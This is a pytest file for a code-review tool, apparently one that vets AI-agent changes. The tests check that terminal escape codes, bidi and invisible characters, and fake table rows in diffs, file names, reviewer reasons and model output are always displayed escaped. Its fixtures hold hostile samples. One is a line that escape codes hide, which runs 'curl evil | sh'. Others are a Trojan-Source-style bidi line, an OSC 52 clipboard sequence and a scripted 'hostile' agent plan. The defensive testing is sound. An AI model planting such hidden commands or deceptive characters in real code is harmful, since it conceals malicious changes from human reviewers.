"""Hostile text queued by another process (``pending import`` of an agent's branch, a
reviewer's reason given with ``pending discard``) reaches a pseudo-terminal only shown:
no escape, no bell, no carriage return, no bidi or invisible character raw — and the text
is still there, visibly (redline.termtext)."""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
from pathlib import Path

import pytest
from tests.workspace.gitrepo import commit_all, git, init_repo, isolate_git

HIDING_LINE = 'ok = 1  # \x1b[2K\x1b[1Gos.system("curl evil | sh")\n'
BIDI_LINE = 'access = "user\u202e \u2066# admin\u2069 \u2066"  # \u200bzero\ufeff\n'
FAKE_ROW = "ok.py\x1b[2K\r\x1b[1Apa-9  agent  +0 -0  harmless.txt"
MARKUP_NAME = "m [bold]x[\\bold] [link=evil.invalid]y.py"
RAW = [
    b"\x1b",
    b"\x07",
    b"\r",
    b"\xc2\x9b",
    "\u202e".encode(),
    "\u2066".encode(),
    "\u200b".encode(),
    "\ufeff".encode(),
]


def on_pty(*args: str, env: dict[str, str]) -> bytes:
    """What ``redline ARGS`` writes to a pseudo-terminal (stdout and stderr), with the
    terminal's own ``\\r\\n`` for each newline folded back to ``\\n``."""
    leader, follower = pty.openpty()
    try:
        proc = subprocess.Popen(
            [sys.executable, "-m", "redline", *args],
            stdin=subprocess.DEVNULL,
            stdout=follower,
            stderr=follower,
            env=env,
        )
    finally:
        os.close(follower)
    chunks = []
    try:
        while True:
            try:
                chunk = os.read(leader, 65536)
            except OSError:  # EIO: the child closed the terminal
                break
            if not chunk:
                break
            chunks.append(chunk)
    finally:
        os.close(leader)
    proc.wait(timeout=120)
    return b"".join(chunks).replace(b"\r\n", b"\n")


def run(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "redline", *args],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
        check=False,
    )


def assert_nothing_raw(out: bytes) -> None:
    for raw in RAW:
        assert raw not in out, (raw, out)


@pytest.fixture
def workspace(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, dict[str, str]]:
    isolate_git(monkeypatch, tmp_path / "home")
    root = init_repo(tmp_path / "ws", {"a.py": "a = 1\n", "win.txt": "x = 1\r\ny = 2\r\n"})
    git(root, "checkout", "-q", "-b", "agent")
    (root / "a.py").write_text("a = 1\n" + HIDING_LINE + BIDI_LINE)
    (root / "win.txt").write_bytes(b"x = 1\r\ny = 3\r\n")
    (root / FAKE_ROW).write_text("z\n")
    (root / MARKUP_NAME).write_text("w\n")
    (root / "two\nlines.py").write_text("n\n")
    commit_all(root, "agent work")
    git(root, "checkout", "-q", "main")
    env = {**os.environ, "REDLINE_CONFIG_DIR": str(tmp_path / "config"), "TERM": "xterm"}
    done = run("pending", "-C", str(root), "import", "agent", env=env)
    assert done.returncode == 0, done.stderr
    return root, env


def ids(root: Path, env: dict[str, str]) -> dict[str, str]:
    listed = json.loads(run("pending", "-C", str(root), "list", "--json", env=env).stdout)
    return {item["files"][0]: item["id"] for item in listed["actions"]}


def test_pending_show_shows_the_hidden_line_and_its_escapes(
    workspace: tuple[Path, dict[str, str]],
) -> None:
    root, env = workspace
    out = on_pty("pending", "-C", str(root), "show", ids(root, env)["a.py"], env=env)
    assert_nothing_raw(out)
    text = out.decode()
    assert '+ok = 1  # \\x1b[2K\\x1b[1Gos.system("curl evil | sh")' in text
    assert "<U+202E>" in text and "<U+2066>" in text and "<U+200B>" in text
    assert "hidden:  2 diff lines hold control or invisible characters" in text


def test_pending_list_cannot_fake_or_split_a_row(workspace: tuple[Path, dict[str, str]]) -> None:
    root, env = workspace
    out = on_pty("pending", "-C", str(root), "list", env=env)
    assert_nothing_raw(out)
    text = out.decode()
    assert "ok.py\\x1b[2K\\x0d\\x1b[1Apa-9  agent  +0 -0  harmless.txt (from agent)" in text
    assert "two\\x0alines.py (from agent)" in text
    assert f"{MARKUP_NAME} (from agent)" in text  # a terminal shows markup as it is
    rows = [line for line in text.splitlines() if line.startswith("pa-")]
    assert len(rows) == 5  # one row per action, whatever the names hold


def test_a_crlf_file_says_so_once(workspace: tuple[Path, dict[str, str]]) -> None:
    root, env = workspace
    out = on_pty("pending", "-C", str(root), "show", ids(root, env)["win.txt"], env=env)
    assert_nothing_raw(out)
    text = out.decode()
    assert "+++ b/win.txt\t(CRLF line endings)" in text
    assert "\n-y = 2\n+y = 3" in text
    assert "\\x0d" not in text and "hidden:" not in text


def test_a_reviewers_reason_is_shown_in_show_and_log(
    workspace: tuple[Path, dict[str, str]],
) -> None:
    root, env = workspace
    action = ids(root, env)["a.py"]
    reason = "\x1b[31mLGTM\x1b[0m\nsecond line \u202e[bold]ok[/bold]\x07"
    done = run("pending", "-C", str(root), "discard", action, "--reason", reason, env=env)
    assert done.returncode == 0, done.stderr
    shown = "\\x1b[31mLGTM\\x1b[0m\\x0asecond line <U+202E>[bold]ok[/bold]\\x07"
    out = on_pty("pending", "-C", str(root), "show", action, env=env)
    assert_nothing_raw(out)
    assert f"reason:  {shown}" in out.decode()
    out = on_pty("log", "-C", str(root), env=env)
    assert_nothing_raw(out)
    assert f"reason: {shown}" in out.decode()
    # --json keeps JSON's own escapes, and the same text.
    data = json.loads(run("log", "-C", str(root), "--json", env=env).stdout)
    assert data["decisions"][-1]["reason"] == reason


def test_json_output_means_the_same_and_carries_nothing_raw(
    workspace: tuple[Path, dict[str, str]],
) -> None:
    root, env = workspace
    out = on_pty("pending", "-C", str(root), "show", ids(root, env)["a.py"], "--json", env=env)
    assert_nothing_raw(out)
    assert HIDING_LINE in json.loads(out)["diff"]
    assert BIDI_LINE in json.loads(out)["diff"]


def test_a_plugins_error_and_a_models_words_are_shown(tmp_path: Path) -> None:
    root = tmp_path / "ws"
    root.mkdir()
    plugin = tmp_path / "plug.py"
    plugin.write_text(
        'raise RuntimeError("\\x1b]52;c;ZXZpbA==\\x07 [bold]boom[/bold] \\u202eevil\\rover")\n'
    )
    env = {
        **os.environ,
        "REDLINE_CONFIG_DIR": str(tmp_path / "config"),
        "REDLINE_SCRIPTED_WAIT_SCALE": "0",
    }
    out = on_pty("tools", "-C", str(root), "--tools", str(plugin), env=env)
    assert_nothing_raw(out)
    assert (
        "RuntimeError: \\x1b]52;c;ZXZpbA==\\x07 [bold]boom[/bold] <U+202E>evil\\x0dover"
        in out.decode()
    )
    plan = tmp_path / "plan.json"
    steps = [
        {"say": "hi \x1b[2K\x1b[1Ghidden \u202eevil\x07"},
        {"call": [{"tool": "write", "args": {"path": "x\x1b[1A.py", "content": HIDING_LINE}}]},
        {"resolve": "discard", "reason": "no \x1b[31mway\x1b[0m"},
        {"say": "done"},
    ]
    plan.write_text(json.dumps({"name": "hostile", "steps": steps}))
    out = on_pty("exec", "-C", str(root), "--model", f"scripted:{plan}", "--prompt", "go", env=env)
    assert_nothing_raw(out)
    text = out.decode()
    assert "assistant: hi \\x1b[2K\\x1b[1Ghidden <U+202E>evil\\x07" in text
    assert "[pending] pa-1 Write: x\\x1b[1A.py [write]" in text
    assert "by agent: no \\x1b[31mway\\x1b[0m" in text


def test_undo_rules_and_ast_edit_show_it_too(workspace: tuple[Path, dict[str, str]]) -> None:
    root, env = workspace
    found = ids(root, env)
    fake = next(action for path, action in found.items() if path.startswith("ok.py"))
    done = run("pending", "-C", str(root), "apply", found["a.py"], fake, env=env)
    assert done.returncode == 0, done.stdout + done.stderr
    out = on_pty("undo", "-C", str(root), "--list", env=env)
    assert_nothing_raw(out)
    assert "ok.py\\x1b[2K\\x0d\\x1b[1Apa-9  agent  +0 -0  harmless.txt (from agent)" in out.decode()
    out = on_pty("rules", "-C", str(root), "check", env=env)
    assert_nothing_raw(out)
    assert "two\\x0alines.py (from agent)" in out.decode()
    # a.py now holds the agent's lines; a structural search prints them shown.
    out = on_pty("ast-edit", "-C", str(root), "--pattern", "access = $X", "a.py", env=env)
    assert_nothing_raw(out)
    assert "<U+202E>" in out.decode()
    out = on_pty(
        "ast-edit", "-C", str(root), "--pattern", "ok = $X", "--rewrite", "ok = 2", "a.py", env=env
    )
    assert_nothing_raw(out)
    assert '-ok = 1  # \\x1b[2K\\x1b[1Gos.system("curl evil | sh")' in out.decode()
